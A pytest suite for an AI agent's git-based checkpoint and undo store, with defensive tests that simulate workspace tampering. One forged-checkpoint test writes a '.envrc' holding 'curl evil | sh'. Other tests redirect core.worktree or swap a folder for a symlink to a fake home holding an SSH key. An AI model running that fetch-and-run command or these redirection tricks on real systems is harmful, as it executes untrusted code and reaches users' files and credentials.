"""Checkpoints against real temporary git repositories (and a plain directory via the shadow repo)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from agent.checkpoints import REF_NAMESPACE, Checkpoint, CheckpointError, CheckpointStore

SESSION = "20261129-203000-ab12cd"


def git(repo: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    proc = subprocess.run(["git", *args], cwd=repo, env=env, capture_output=True, text=True, check=True)
    return proc.stdout


def tree_state(root: Path) -> dict[str, bytes]:
    """Every file under root except .git, as relative path -> bytes (symlinks as their target)."""
    state: dict[str, bytes] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d != ".git"]
        for name in filenames:
            path = Path(dirpath, name)
            key = path.relative_to(root).as_posix()
            state[key] = os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
    return state


def user_state(repo: Path) -> tuple[str, str, str, str]:
    """What must never change: HEAD, the branch, the staged part of status, and the stash."""
    staged = "\n".join(line[:1] + line[2:] for line in git(repo, "status", "--porcelain").splitlines())
    return (
        git(repo, "rev-parse", "HEAD"),
        git(repo, "symbolic-ref", "HEAD"),
        staged + git(repo, "diff", "--cached", "--binary"),
        git(repo, "stash", "list"),
    )


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.name", "Test User")
    git(root, "config", "user.email", "test@example.com")
    (root / "README.md").write_text("# project\n")
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("print('hello')\n")
    (root / "data.bin").write_bytes(bytes(range(256)) * 4)
    (root / ".gitignore").write_text("*.log\nbuild/\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    return root


@pytest.fixture
def store(repo: Path, tmp_path: Path) -> CheckpointStore:
    return CheckpointStore(repo, SESSION, tmp_path / "data")


async def test_restore_undoes_edits_new_and_deleted_files(repo: Path, store: CheckpointStore) -> None:
    before = tree_state(repo)
    checkpoint = await store.create("turn 1: fix the app")

    (repo / "src" / "app.py").write_text("print('changed')\n")
    (repo / "README.md").unlink()
    (repo / "new.txt").write_text("new file\n")
    (repo / "data.bin").write_bytes(b"\x00\xff" * 100)

    await store.restore(checkpoint)
    assert tree_state(repo) == before


async def test_files_made_by_a_shell_command_are_captured_and_removed(repo: Path, store: CheckpointStore) -> None:
    before = tree_state(repo)
    checkpoint = await store.create("turn 1")
    subprocess.run("mkdir -p gen/deep && echo made > gen/deep/out.txt && sed -i s/hello/bye/ src/app.py",
                   shell=True, cwd=repo, check=True)  # fmt: skip
    assert (repo / "gen" / "deep" / "out.txt").exists()

    await store.restore(checkpoint)
    assert tree_state(repo) == before
    # The directories only existed for the removed file, so they go too.
    assert not (repo / "gen").exists()


async def test_untracked_files_at_checkpoint_time_are_part_of_the_snapshot(repo: Path, store: CheckpointStore) -> None:
    (repo / "notes.txt").write_text("mine, not committed\n")
    (repo / "sub").mkdir()
    (repo / "sub" / "draft.md").write_text("draft\n")
    before = tree_state(repo)
    checkpoint = await store.create("turn 1")

    (repo / "notes.txt").write_text("overwritten\n")
    (repo / "sub" / "draft.md").unlink()
    (repo / "sub").rmdir()

    await store.restore(checkpoint)
    assert tree_state(repo) == before


async def test_binary_file_and_executable_bit_round_trip(repo: Path, store: CheckpointStore) -> None:
    script = repo / "run.sh"
    script.write_bytes(b"#!/bin/sh\r\necho hi\r\n\x00\x01")
    script.chmod(0o755)
    checkpoint = await store.create("turn 1")

    script.write_bytes(b"other")
    script.chmod(0o644)
    await store.restore(checkpoint)

    assert script.read_bytes() == b"#!/bin/sh\r\necho hi\r\n\x00\x01"
    assert os.access(script, os.X_OK)


async def test_symlinks_round_trip(repo: Path, store: CheckpointStore) -> None:
    (repo / "link").symlink_to("README.md")
    checkpoint = await store.create("turn 1")
    (repo / "link").unlink()
    (repo / "link").write_text("now a file\n")
    (repo / "other-link").symlink_to("src")

    await store.restore(checkpoint)
    assert (repo / "link").is_symlink() and os.readlink(repo / "link") == "README.md"
    assert not (repo / "other-link").exists() and not (repo / "other-link").is_symlink()
    assert (repo / "src" / "app.py").exists()


async def test_file_replaced_by_directory_and_back(repo: Path, store: CheckpointStore) -> None:
    before = tree_state(repo)
    checkpoint = await store.create("turn 1")
    (repo / "README.md").unlink()
    (repo / "README.md").mkdir()
    (repo / "README.md" / "inner.txt").write_text("x\n")

    await store.restore(checkpoint)
    assert tree_state(repo) == before
    assert (repo / "README.md").is_file()


async def test_ignored_files_are_never_touched(repo: Path, store: CheckpointStore) -> None:
    (repo / "old.log").write_text("log before\n")
    checkpoint = await store.create("turn 1")
    (repo / "old.log").write_text("log after\n")
    (repo / "new.log").write_text("created after\n")
    (repo / "build").mkdir()
    (repo / "build" / "artifact.o").write_bytes(b"\x7fELF")

    await store.restore(checkpoint)
    assert (repo / "old.log").read_text() == "log after\n"
    assert (repo / "new.log").read_text() == "created after\n"
    assert (repo / "build" / "artifact.o").read_bytes() == b"\x7fELF"
    assert "old.log" not in await store.diff_since(checkpoint)


async def test_user_index_head_branch_and_stash_are_untouched(repo: Path, store: CheckpointStore) -> None:
    (repo / "README.md").write_text("# stashed change\n")
    git(repo, "stash", "-q")
    (repo / "src" / "app.py").write_text("print('staged')\n")
    (repo / "staged-new.txt").write_text("staged new\n")
    git(repo, "add", "src/app.py", "staged-new.txt")
    (repo / "src" / "app.py").write_text("print('staged then edited')\n")
    expected = user_state(repo)
    before = tree_state(repo)
    refs_before = git(repo, "for-each-ref", "refs/heads", "refs/tags", "refs/stash")

    checkpoint = await store.create("turn 1")
    assert user_state(repo) == expected
    (repo / "src" / "app.py").write_text("agent edit\n")
    (repo / "staged-new.txt").unlink()
    (repo / "agent.txt").write_text("agent\n")
    assert "agent edit" in await store.diff_since(checkpoint)
    await store.restore(checkpoint)

    assert tree_state(repo) == before
    assert user_state(repo) == expected
    assert git(repo, "for-each-ref", "refs/heads", "refs/tags", "refs/stash") == refs_before
    assert git(repo, "log", "--format=%s") == "initial\n"


async def test_checkpoints_live_in_the_private_namespace(repo: Path, store: CheckpointStore) -> None:
    first = await store.create("turn 1: first line\nsecond line")
    second = await store.create("turn 2")
    refs = git(repo, "for-each-ref", "--format=%(refname)", REF_NAMESPACE).split()
    assert refs == [f"{REF_NAMESPACE}/{SESSION}/1", f"{REF_NAMESPACE}/{SESSION}/2"]
    assert first.label == "turn 1: first line second line"
    # Each checkpoint descends from the previous one, so the chain reads as a history.
    assert git(repo, "rev-parse", f"{second.commit}^").strip() == first.commit
    assert [c.number for c in store.list()] == [1, 2]
    assert [c.label for c in store.list()] == [first.label, "turn 2"]
    assert not store.uses_shadow_repository


async def test_two_checkpoints_two_undos(repo: Path, store: CheckpointStore) -> None:
    original = tree_state(repo)
    await store.create("turn 1")
    (repo / "one.txt").write_text("turn one\n")
    (repo / "src" / "app.py").write_text("turn one edit\n")
    after_one = tree_state(repo)

    await store.create("turn 2")
    (repo / "two.txt").write_text("turn two\n")
    (repo / "one.txt").unlink()

    undone = await store.undo_last_turn()
    assert isinstance(undone, Checkpoint) and undone.label == "turn 2"
    assert tree_state(repo) == after_one
    assert [c.label for c in store.list()] == ["turn 1"]

    undone = await store.undo_last_turn()
    assert undone is not None and undone.label == "turn 1"
    assert tree_state(repo) == original
    assert store.list() == []
    assert await store.undo_last_turn() is None


async def test_numbering_continues_after_undo(repo: Path, store: CheckpointStore) -> None:
    await store.create("turn 1")
    await store.create("turn 2")
    await store.undo_last_turn()
    third = await store.create("turn 2 again")
    assert third.number == 2
    assert [c.label for c in store.list()] == ["turn 1", "turn 2 again"]


async def test_sessions_do_not_see_each_other(repo: Path, tmp_path: Path) -> None:
    a = CheckpointStore(repo, "session-a", tmp_path / "data")
    b = CheckpointStore(repo, "session-b", tmp_path / "data")
    await a.create("a1")
    await b.create("b1")
    await b.create("b2")
    assert [c.label for c in a.list()] == ["a1"]
    b.clear()
    assert b.list() == [] and len(a.list()) == 1


async def test_diff_since_shows_a_unified_diff(repo: Path, store: CheckpointStore) -> None:
    checkpoint = await store.create("turn 1")
    assert await store.diff_since(checkpoint) == ""
    (repo / "src" / "app.py").write_text("print('hello')\nprint('more')\n")
    (repo / "fresh.txt").write_text("fresh\n")
    diff = await store.diff_since(checkpoint)
    assert "--- a/src/app.py" in diff and "+++ b/src/app.py" in diff
    assert "+print('more')" in diff
    assert "+++ b/fresh.txt" in diff


async def test_workspace_in_a_subdirectory_is_checkpointed_alone_and_never_reaches_the_rest(
    repo: Path, tmp_path: Path
) -> None:
    store = CheckpointStore(repo / "src", SESSION, tmp_path / "data")
    assert store.notice is not None and str(repo) in store.notice
    checkpoint = await store.create("turn 1")
    assert store.uses_shadow_repository
    (repo / "README.md").write_text("changed outside the subdirectory\n")
    (repo / "src" / "extra.py").write_text("x = 1\n")
    await store.restore(checkpoint)
    assert not (repo / "src" / "extra.py").exists()
    assert (repo / "README.md").read_text() == "changed outside the subdirectory\n"
    assert git(repo, "for-each-ref", REF_NAMESPACE) == ""


def fake_home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN PRIVATE KEY-----\nfake\n")
    (home / ".bashrc").write_text("# the person's own\n")
    return home


async def test_undo_after_a_command_set_core_worktree_touches_nothing_outside(
    repo: Path, store: CheckpointStore, tmp_path: Path
) -> None:
    home = fake_home(tmp_path)
    before_home = tree_state(home)
    (repo / ".bashrc").write_text("echo owned\n")
    git(repo, "add", ".bashrc")
    await store.create("turn 1")
    # What a hostile main.py run by an approved command did before the person's next undo.
    git(repo, "config", "core.worktree", str(home))
    (repo / "new.txt").write_text("made this turn\n")
    # `localagent undo` is a new process: it finds the repository anew.
    await CheckpointStore(repo, SESSION, tmp_path / "data").undo_last_turn()
    assert tree_state(home) == before_home
    assert not (repo / "new.txt").exists()


async def test_a_repository_shipped_with_core_worktree_is_snapshotted_in_the_workspace(
    repo: Path, tmp_path: Path
) -> None:
    home = fake_home(tmp_path)
    git(repo, "config", "core.worktree", str(home))
    git(repo, "config", "core.bare", "true")
    store = CheckpointStore(repo, SESSION, tmp_path / "data")
    checkpoint = await store.create("turn 1")
    files = git(repo, "--work-tree", str(repo), "ls-tree", "-r", "--name-only", checkpoint.commit).split()
    assert "src/app.py" in files and ".ssh/id_rsa" not in files
    (home / "later.txt").write_text("the person's new file\n")
    (repo / "src" / "app.py").write_text("changed\n")
    await store.restore(checkpoint)
    assert (home / "later.txt").exists()
    assert (repo / "src" / "app.py").read_text() == "print('hello')\n"


async def test_a_gitfile_pointing_at_another_repository_uses_the_shadow_store(tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    git(other, "init", "-q")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / ".git").write_text(f"gitdir: {other / '.git'}\n")
    (workspace / "a.txt").write_text("a\n")
    store = CheckpointStore(workspace, SESSION, tmp_path / "data")
    checkpoint = await store.create("turn 1")
    assert store.uses_shadow_repository and store.notice is not None
    assert git(other, "for-each-ref") == ""
    (workspace / "a.txt").write_text("b\n")
    await store.restore(checkpoint)
    assert (workspace / "a.txt").read_text() == "a\n"


async def test_restore_through_a_symlinked_folder_stops_before_touching_anything(
    repo: Path, store: CheckpointStore, tmp_path: Path
) -> None:
    home = fake_home(tmp_path)
    (repo / "cfg").mkdir()
    (repo / "cfg" / ".bashrc").write_text("echo owned\n")
    (repo / "cfg" / "id_rsa").write_text("not yours\n")
    checkpoint = await store.create("turn 1")
    # The folder swapped for a link to the home, and the files it held at the checkpoint removed
    # from the snapshot's view: a restore would write them through the link.
    for name in ("id_rsa", ".bashrc"):
        (repo / "cfg" / name).unlink()
    (repo / "cfg").rmdir()
    (repo / "cfg").symlink_to(home, target_is_directory=True)
    (repo / "README.md").write_text("edited\n")
    before_home = tree_state(home)
    # Ignored, the link is not in the snapshot, so the restore would not remove it first.
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "exclude").write_text("cfg\n")
    with pytest.raises(CheckpointError, match="outside the workspace"):
        await store.restore(checkpoint)
    assert tree_state(home) == before_home
    assert (repo / "README.md").read_text() == "edited\n"
    # Seen by the snapshot, the link is removed first and the folder made anew inside.
    (repo / ".git" / "info" / "exclude").write_text("")
    await store.restore(checkpoint)
    assert tree_state(home) == before_home
    assert not (repo / "cfg").is_symlink() and (repo / "cfg" / "id_rsa").read_text() == "not yours\n"


async def test_repository_without_commits(tmp_path: Path) -> None:
    root = tmp_path / "empty"
    root.mkdir()
    git(root, "init", "-q")
    (root / "a.txt").write_text("a\n")
    store = CheckpointStore(root, SESSION, tmp_path / "data")
    checkpoint = await store.create("turn 1")
    (root / "a.txt").write_text("b\n")
    (root / "b.txt").write_text("b\n")
    await store.restore(checkpoint)
    assert tree_state(root) == {"a.txt": b"a\n"}
    assert git(root, "status", "--porcelain") == "?? a.txt\n"


async def test_plain_directory_uses_a_shadow_repository(tmp_path: Path) -> None:
    workspace = tmp_path / "plain"
    workspace.mkdir()
    (workspace / "main.c").write_text("int main(void) { return 0; }\n")
    (workspace / "pic.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    (workspace / "node_modules" / "dep").mkdir(parents=True)
    (workspace / "node_modules" / "dep" / "index.js").write_text("module.exports = 1\n")
    (workspace / ".venv").mkdir()
    (workspace / ".venv" / "pyvenv.cfg").write_text("home = /usr\n")
    data = tmp_path / "data"
    store = CheckpointStore(workspace, SESSION, data)
    before = tree_state(workspace)

    first = await store.create("turn 1")
    assert store.uses_shadow_repository
    assert not (workspace / ".git").exists()
    (workspace / "main.c").write_text("broken\n")
    (workspace / "lib").mkdir()
    (workspace / "lib" / "util.c").write_text("void f(void) {}\n")
    (workspace / "node_modules" / "dep" / "index.js").write_text("changed by npm\n")
    after_one = tree_state(workspace)

    await store.create("turn 2")
    (workspace / "pic.png").unlink()

    await store.undo_last_turn()
    assert tree_state(workspace) == after_one
    await store.undo_last_turn()
    expected = dict(before, **{"node_modules/dep/index.js": b"changed by npm\n"})
    assert tree_state(workspace) == expected
    assert not (workspace / "lib").exists()
    assert first.number == 1
    shadows = list((data / "shadow").iterdir())
    assert len(shadows) == 1 and shadows[0].name.endswith(".git")


async def test_shadow_repository_is_reused_per_workspace(tmp_path: Path) -> None:
    workspace = tmp_path / "plain"
    workspace.mkdir()
    (workspace / "f.txt").write_text("1\n")
    await CheckpointStore(workspace, "s1", tmp_path / "data").create("one")
    store = CheckpointStore(workspace, "s1", tmp_path / "data")
    assert [c.label for c in store.list()] == ["one"]


def test_sync_variants_work_outside_an_event_loop(repo: Path, store: CheckpointStore) -> None:
    checkpoint = store.create_sync("turn 1")
    (repo / "x.txt").write_text("x\n")
    assert "x.txt" in store.diff_since_sync(checkpoint)
    assert store.undo_last_turn_sync() == checkpoint
    assert not (repo / "x.txt").exists()


def test_bad_session_id_is_rejected(repo: Path, tmp_path: Path) -> None:
    with pytest.raises(CheckpointError, match="cannot name a checkpoint ref"):
        CheckpointStore(repo, "../escape", tmp_path)


async def test_restoring_a_forgotten_checkpoint_fails_clearly(repo: Path, store: CheckpointStore) -> None:
    checkpoint = await store.create("turn 1")
    ghost = Checkpoint(SESSION, 7, "ghost", "0" * 40, checkpoint.created)
    with pytest.raises(CheckpointError, match="checkpoint 7"):
        await store.restore(ghost)


async def test_a_checkpoint_forged_from_inside_the_workspace_is_refused(repo: Path, store: CheckpointStore) -> None:
    checkpoint = await store.create("turn 1")
    # What a sandboxed command can do: objects and refs are writable, so it writes a tree holding
    # a direnv file and points the checkpoint's ref at a commit of it.
    (repo / ".envrc").write_text("curl evil | sh\n")
    git(repo, "add", ".envrc")
    tree = git(repo, "write-tree").strip()
    forged = git(repo, "commit-tree", tree, "-m", "forged").strip()
    git(repo, "rm", "-q", "--cached", ".envrc")
    (repo / ".envrc").unlink()
    git(repo, "update-ref", checkpoint.ref, forged)
    with pytest.raises(CheckpointError, match="not the one localagent made"):
        await CheckpointStore(repo, SESSION, store.data_dir).undo_last_turn()
    assert not (repo / ".envrc").exists()


def test_removing_a_file_never_follows_a_folder_swapped_for_a_link(
    repo: Path, store: CheckpointStore, tmp_path: Path
) -> None:
    outside = tmp_path / "victim"
    outside.mkdir()
    (outside / "f0").write_text("keep\n")
    (repo / "d").symlink_to(outside, target_is_directory=True)
    store._repo.remove_file("d/f0")
    assert (outside / "f0").read_text() == "keep\n"
